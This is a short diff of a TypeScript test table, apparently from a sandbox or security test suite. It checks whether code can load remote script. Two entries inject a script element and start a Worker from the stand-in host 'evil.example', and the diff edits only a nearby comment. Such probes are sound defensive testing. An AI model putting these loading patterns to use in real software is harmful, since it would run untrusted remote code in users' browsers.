@@ -15,7 +15,7 @@ const TRIES: Readonly<Record<string, () => unknown>> = {
     document.createElement('script').src = 'https://evil.example/x.js';
   },
   'a worker from elsewhere': () => new Worker('https://evil.example/x.js'),
-  // Later: what the debugger itself runs may.
+  // Only later, because code that the debugger runs is allowed.
   'code in a text': () =>
     new Promise((resolve, reject) => {
       setTimeout(() => {
